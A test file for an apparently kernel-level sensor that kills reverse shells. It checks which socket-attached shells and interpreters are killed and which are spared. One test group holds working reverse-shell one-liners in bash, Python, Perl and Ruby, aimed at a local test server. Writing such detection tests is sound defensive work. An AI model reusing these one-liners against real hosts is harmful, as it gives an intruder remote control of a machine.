import {
  copyFileSync,
  existsSync,
  mkdtempSync,
  realpathSync,
  rmSync,
  writeFileSync,
} from "node:fs";
import { createServer } from "node:net";
import { tmpdir } from "node:os";
import { delimiter, join } from "node:path";

import { afterEach, beforeEach, describe, expect, test } from "vitest";

import { toKernelKills } from "../../../../agent/guard/kernel-kills.ts";
import { NO_KILLS } from "../../../../agent/sensor/kernel/kills.ts";
import { defaultPolicy } from "../../../../protocol/policy.ts";
import { buildProgram } from "../../../support/build-program.ts";
import { requires } from "../../../support/requires.ts";
import { type Of, type ObservedCommand, ofKind } from "./support/observe-command.ts";
import { useStandingSensor } from "./support/standing-sensor.ts";

const { bpf } = requires;
const TRIES = 50;
const sensor = { kills: { ...NO_KILLS, reverseShells: toKernelKills(null).reverseShells } };
let directory = "";
let touched = "";

beforeEach(() => {
  directory = realpathSync(mkdtempSync(join(tmpdir(), "stopped-shells-")));
  touched = join(directory, "touched");
});

afterEach(() => {
  rmSync(directory, { recursive: true, force: true });
});

function isInstalled(program: string): boolean {
  if (program.startsWith("/")) return existsSync(program);
  return (process.env["PATH"] ?? "").split(delimiter).some((one) => existsSync(join(one, program)));
}

type Family = "ipv4" | "ipv6" | "unix" | "two";

function onSocket(
  family: Family,
  command: readonly string[],
  { line = `touch ${touched}`, tries = TRIES } = {},
): string[] {
  return [buildProgram("on-socket"), family, String(tries), line, ...command];
}

function stoppedIn(observed: ObservedCommand): Of<"exec">[] {
  return ofKind(observed, "exec").filter(({ isReverseShell }) => isReverseShell);
}

describe.skipIf(!bpf.available)(`a shell on a connection${bpf.note}`, () => {
  const observe = useStandingSensor(sensor);

  test.for([
    ["sh"],
    ["bash", "-i"],
    ["bash", "--norc", "--rcfile", "/dev/null", "-i"],
    ["sh", "-s", "operand"],
    ["sh", "-o", "monitor", "-"],
    ["bash", "+O", "extglob", "--", "/dev/stdin"],
  ])("never runs its first command, which is there before it is (%s)", async (command) => {
    const observed = await observe(onSocket("ipv4", command));
    expect(existsSync(touched)).toBe(false);
    expect(observed.records).toMatchObject([{ killed: TRIES }]);
    expect(stoppedIn(observed)).toHaveLength(TRIES);
    expect(stoppedIn(observed)[0]).toMatchObject({ killed: true, stdout: { type: "socket" } });
  });

  test.for(["ipv6", "two"] as const)("is killed on %s, too", async (family) => {
    const observed = await observe(onSocket(family, ["sh"]));
    expect(observed.records).toMatchObject([{ killed: TRIES }]);
    expect(existsSync(touched)).toBe(false);
  });

  test.for([["/usr/bin/python3", "-"], ["perl"], ["ruby", "/dev/stdin"], ["php"], ["node", "-i"]])(
    "is killed where it is an interpreter (%s)",
    async (command, { skip }) => {
      skip(!isInstalled(command[0] ?? ""), "not installed");
      const observed = await observe(onSocket("ipv4", command, { tries: 3 }));
      expect(observed.records).toMatchObject([{ killed: 3 }]);
    },
  );

  test.for([["busybox", "sh"], ["bash5.2"]])("is killed by its true name (%s)", async (command) => {
    const [name = "", ...args] = command;
    copyFileSync(realpathSync("/bin/dash"), join(directory, name));
    const observed = await observe(
      onSocket("ipv4", [join(directory, name), ...args], { tries: 1 }),
    );
    expect(observed.records).toMatchObject([{ killed: 1 }]);
  });

  test.for([
    { way: "bash", argv: ["bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/$PORT 0>&1"] },
    {
      way: "sh, by a descriptor",
      argv: ["bash", "-c", "exec 5<>/dev/tcp/127.0.0.1/$PORT; sh <&5 >&5"],
    },
    {
      way: "python",
      argv: [
        "/usr/bin/python3",
        "-c",
        'import os,socket; s=socket.create_connection(("127.0.0.1",int(os.environ["PORT"]))); [os.dup2(s.fileno(),n) for n in range(3)]; os.execl("/bin/sh","sh","-i")',
      ],
    },
    {
      way: "perl",
      argv: [
        "perl",
        "-MIO::Socket",
        "-e",
        '$s=IO::Socket::INET->new("127.0.0.1:$ENV{PORT}"); open STDIN,"<&",$s; open STDOUT,">&",$s; open STDERR,">&",$s; exec "/bin/sh -i"',
      ],
    },
    {
      way: "ruby",
      argv: [
        "ruby",
        "-rsocket",
        "-e",
        's=TCPSocket.new("127.0.0.1",ENV["PORT"].to_i); exec "/bin/bash", in: s, out: s, err: s',
      ],
    },
  ])("that was started as people start them gets nowhere ($way)", async ({ argv }, { skip }) => {
    skip(!isInstalled(argv[0] ?? ""), "not installed");
    const server = createServer((connection) => {
      connection.on("error", () => connection.destroy());
      connection.write(`touch ${touched}\n`);
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    const address = server.address();
    const port = typeof address === "object" ? address?.port : undefined;
    const script = `for i in 1 2 3 4 5; do "$@"; done`;
    const observed = await observe(["/bin/sh", "-c", script, "sh", ...argv], {
      env: { ...process.env, PORT: String(port) },
    });
    server.close();
    expect(stoppedIn(observed)).toHaveLength(5);
    expect(existsSync(touched)).toBe(false);
  });
});

describe.skipIf(!bpf.available)(`a shell that goes on${bpf.note}`, () => {
  const observe = useStandingSensor(sensor);

  test("is one on a socket of the machine's own", async () => {
    const observed = await observe(onSocket("unix", ["sh"], { tries: 1 }));
    expect(observed.records).toMatchObject([{ killed: 0 }]);
    expect(existsSync(touched)).toBe(true);
  });

  test.for([
    ["sh", "-c", "read -r line"],
    ["bash", "-lc", "read -r line"],
    ["sh", "-e", "script"],
    ["bash", "--rcfile", "/dev/null", "script"],
    ["/usr/bin/python3", "-c", "input()"],
    ["perl", "-ne", "print"],
    ["awk", "{ print }"],
    ["cat"],
  ])("has its commands from elsewhere (%s)", async (command, { skip }) => {
    skip(!isInstalled(command[0] ?? ""), "not installed");
    writeFileSync(join(directory, "script"), "read -r line\n");
    const there = command.map((word) => (word === "script" ? join(directory, word) : word));
    const observed = await observe(onSocket("ipv4", there, { tries: 1 }), {
      // What a login shell of this machine's user does is not to be waited for.
      env: { ...process.env, HOME: directory },
    });
    expect(observed.records).toMatchObject([{ killed: 0, lastExit: 0 }]);
  });

  test("is a script that a server starts", async () => {
    const script = join(directory, "answer");
    writeFileSync(script, `#!/bin/sh\nread -r line\ntouch ${touched}\n`, { mode: 0o755 });
    const observed = await observe(onSocket("ipv4", [script], { tries: 1 }));
    expect(observed.records).toMatchObject([{ killed: 0 }]);
    expect(existsSync(touched)).toBe(true);
  });

  test("is any where the rule does not kill", async () => {
    const argv = [buildProgram("on-socket"), "ipv4", "1", `touch ${touched}`, "sh"];
    const rules = { "reverse-shell": { response: "report" } } as const;
    const { reverseShells } = toKernelKills({ ...defaultPolicy, rules });
    const observed = await observe(argv, {
      sensor: { kills: { ...NO_KILLS, reverseShells } },
    });
    expect(observed.records).toMatchObject([{ killed: 0 }]);
    expect(existsSync(touched)).toBe(true);
  });
});
